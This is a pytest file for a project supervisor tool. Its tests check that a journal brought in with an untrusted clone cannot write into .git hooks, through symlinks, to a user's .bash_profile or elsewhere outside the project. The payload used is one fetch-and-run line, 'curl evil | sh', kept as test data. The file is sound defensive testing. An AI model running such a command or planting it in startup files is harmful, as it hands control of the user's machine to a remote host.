"""A project from an unknown source, with a supervisor's folder in it: nothing in it that could do harm is trusted."""

from __future__ import annotations

import json
import os
import subprocess
from contextlib import closing
from pathlib import Path

import pytest

from support.cli import PROGRAM, Cli
from support.project import new_store, read_task, write_task
from support.team import Team
from support.wait import LIMIT_S
from yolo_supervisor.actions.base import AlertCode, Escalate
from yolo_supervisor.commits.fast_path import CommitLock
from yolo_supervisor.formats import plugin
from yolo_supervisor.formats.plugin import execution_state
from yolo_supervisor.fs.read import digest
from yolo_supervisor.fs.trust import Refused
from yolo_supervisor.store.disk import Disk
from yolo_supervisor.store.history import history
from yolo_supervisor.store.lines import seal
from yolo_supervisor.store.paths import Paths
from yolo_supervisor.store.store import Store

EVIL = b"curl evil | sh\n"


def promise(project: Path, path: Path, content: bytes = EVIL, before: bytes | None = None, **write: object) -> None:
    """A journal that a clone may bring along, with a promise of this write."""
    paths = Paths(project)
    paths.folder.mkdir(parents=True, exist_ok=True)
    edit = {"path": str(path), "before": digest(before), "after": digest(content), "content": content.decode(), **write}
    if before is not None:
        found = path.lstat()
        edit["stamp"] = [found.st_ino, found.st_mtime_ns]
    record = {
        "seq": 1, "at": "2026-01-01T00:00:00.000000Z", "kind": "task", "key": "red/1",
        "action": "requeued", "by": "cli", "reason": "so it says", "evidence": {},
        "project": "/elsewhere", "write": edit,
    }  # fmt: skip
    paths.journal.write_bytes(seal(record))


@pytest.fixture
def outside(project: Path, claude_home: Path) -> Path:
    """A file of the user's outside the project."""
    return claude_home.parent / ".bash_profile"


@pytest.mark.parametrize("command", ["doctor --fix", "state recover", "run"])
def test_a_journal_that_came_with_a_clone_writes_nothing_outside_the_project(
    cli: Cli, team: Team, project: Path, outside: Path, command: str
) -> None:
    promise(project, outside)

    if command == "run":
        team.supervise()
    else:
        cli(*command.split())

    assert not outside.exists()


@pytest.mark.parametrize(
    "name", [".git/hooks/pre-commit", ".GIT/config", "vendor/.git", "link/.bash_profile", "../.bash_profile"]
)
def test_a_promise_writes_neither_into_git_nor_through_a_link(project: Path, outside: Path, name: str) -> None:
    (project / "link").symlink_to(outside.parent)
    for folder in (".git/hooks", ".GIT"):
        (project / folder).mkdir(parents=True)
    promise(project, project / name)
    store = Store(project)
    store.open()

    recovery = store.recover()

    assert recovery.overtaken == ("requeued red/1",)
    assert not os.path.lexists(project / name)
    assert not outside.exists()
    store.close()


def test_a_promise_makes_no_task_and_no_relative_path_counts(project: Path, claude_home: Path) -> None:
    """A path outside the project counts only if it exists with the promised content, and is never searched for."""
    (claude_home / "tasks" / "red").mkdir(parents=True)
    for path in (claude_home / "tasks" / "red" / "7.json", Path("x"), Path("../home/.claude/tasks/red/7.json")):
        promise(project, path, b'{"id":"7","status":"pending"}')
        store = Store(project)
        store.open()
        assert store.recover().overtaken == ("requeued red/1",)
        store.close()
    assert list((claude_home / "tasks" / "red").iterdir()) == []
    assert not Path("x").exists()


@pytest.mark.parametrize(
    "wrong", [{"path": None}, {"path": "/a\0b"}, {"lock": [5]}, {"lock": 7}, {"lock": ["/x", None]}]
)
def test_a_promise_that_makes_no_sense_is_none(project: Path, wrong: dict[str, object]) -> None:
    promise(project, project / plugin.PLANNING / "x")
    record = json.loads(Paths(project).journal.read_bytes())
    del record["crc"]
    Paths(project).journal.write_bytes(seal({**record, "write": {**record["write"], **wrong}}))
    store = Store(project)
    store.open()

    recovery = store.recover()

    assert recovery.overtaken == ("requeued red/1",) or recovery.damage == ("line 1 has a form that is not known",)
    assert recovery.finished == ()
    assert not store.recover()

    store.close()


def test_a_list_that_is_a_link_is_a_list(project: Path, claude_home: Path, tmp_path: Path) -> None:
    (tmp_path / "lists").mkdir()
    (claude_home / "tasks").symlink_to(tmp_path / "lists")
    task = write_task(claude_home, "red", 1, owner="dev-1", status="in_progress")
    promise(project, task, b'{"id":"1","status":"pending"}', task.read_bytes(), lock=[f"{task}.lock", 10.0])
    store = Store(project)
    store.open()

    assert store.recover().finished == ("requeued red/1",)

    store.close()


@pytest.mark.parametrize("lock", ["{home}/projects", "/tmp", "{home}/.bash_profile.lock"])
def test_a_promise_takes_no_lock_but_the_documents(project: Path, outside: Path, lock: str) -> None:
    held = Path(lock.format(home=outside.parent))
    (outside.parent / "projects").mkdir()
    os.utime(outside.parent / "projects", (0, 0))
    promise(project, project / plugin.PLANNING / "x", lock=[str(held), 1.0])
    store = Store(project)
    store.open()

    assert store.recover().overtaken == ("requeued red/1",)

    assert (outside.parent / "projects").is_dir()
    assert not (project / plugin.PLANNING / "x").exists()
    store.close()


def test_promises_of_our_journal_are_carried_out(project: Path, claude_home: Path) -> None:
    task = write_task(claude_home, "red", 1, owner="dev-1", status="in_progress")
    free = b'{"id":"1","status":"pending"}'
    promise(project, task, free, task.read_bytes(), lock=[f"{task}.lock", 10.0])
    store = Store(project)
    store.open()

    assert store.recover().finished == ("requeued red/1",)

    assert read_task(task)["status"] == "pending"
    store.close()


FOLDERS = [path.name for path in Paths(Path()).folders]


@pytest.mark.parametrize("name", FOLDERS)
def test_a_link_in_the_place_of_one_of_its_folders_is_refused(project: Path, tmp_path: Path, name: str) -> None:
    new_store(project)
    treasure = tmp_path / "treasure"
    treasure.mkdir()
    (treasure / "mine.json").write_text("{}")
    (Paths(project).folder / name).rmdir()
    (Paths(project).folder / name).symlink_to(treasure)

    with pytest.raises(Refused, match=f"{name} is a symbolic link"):
        Store(project).open()

    assert [path.name for path in treasure.iterdir()] == ["mine.json"]


@pytest.mark.parametrize("name", FOLDERS)
def test_a_folder_of_ours_that_others_may_write_to_is_refused(project: Path, name: str) -> None:
    new_store(project)
    (Paths(project).folder / name).chmod(0o777)

    with pytest.raises(Refused, match="can be written by all users"):
        Store(project).open()


def test_a_folder_that_came_with_a_clone_is_made_private(project: Path) -> None:
    Paths(project).folder.mkdir()
    Paths(project).folder.chmod(0o755)

    Store(project).open()

    assert Paths(project).folder.stat().st_mode & 0o777 == 0o700


@pytest.mark.parametrize(
    "command",
    [
        "lease acquire a --owner b",
        "flag record v3_x ok",
        "snapshot save",
        "doctor --fix",
        "trust",
        "state adopt --new",
    ],
)
def test_root_does_not_lock_a_user_out_of_their_own_project(cli: Cli, project: Path, command: str) -> None:
    if os.geteuid() != 0:
        pytest.skip("this is about root")
    (project / plugin.PLANNING / execution_state.STATE_FILE).write_text('{"status": "running", "phase": 1}')
    subprocess.run(["chown", "-R", "60000", str(project)], check=True)

    cli(*command.split())

    assert {path.lstat().st_uid for path in project.rglob("*")} == {60000}


def test_what_root_makes_in_another_users_folders_is_that_users(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if os.geteuid() != 0:
        pytest.skip("this is about root")
    state_home = tmp_path / "state"
    state_home.mkdir()
    monkeypatch.setenv("XDG_STATE_HOME", str(state_home))
    for folder in (project, state_home):
        subprocess.run(["chown", "-R", "60000:60000", str(folder)], check=True)

    with closing(Store(project, allow_root=True)) as store:
        store.open()
        store.keep(project / "1.json", b"{}")
        store.note(Escalate(kind="state", code=AlertCode.FLAG_OFF, key="a", reason="b"), "test")

    made = [path for folder in (project, state_home) for path in folder.rglob("*")]
    assert len(made) > 10
    assert {(path.lstat().st_uid, path.lstat().st_gid) for path in made} == {(60000, 60000)}


def test_file_of_roots_that_is_there_already_is_not_given_away(tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("this is about root")
    there = tmp_path / "there"
    there.touch()
    os.chown(tmp_path, 60000, 60000)

    os.close(Disk().open(there, os.O_RDWR | os.O_CREAT))
    with CommitLock(str(tmp_path)):
        assert (tmp_path / "yolo-supervisor.lock").stat().st_uid == 60000

    assert there.stat().st_uid == 0


def test_a_copied_project_finishes_nothing_in_the_one_that_it_was_copied_from(project: Path, tmp_path: Path) -> None:
    document = project / plugin.PLANNING / "config.json"
    document.write_text("{}")
    new_store(project)
    promise(project, document, b'{"a": 1}', b"{}")
    copy = tmp_path / "copy"
    subprocess.run(["cp", "-a", str(project), str(copy)], check=True)

    result = subprocess.run([*PROGRAM, "state", "recover"], cwd=copy, capture_output=True, timeout=LIMIT_S, check=False)

    assert b"Traceback" not in result.stderr
    assert document.read_text() == "{}"
    assert [entry for entry in history(Paths(copy).journal) if entry["action"] == "requeued"] == []
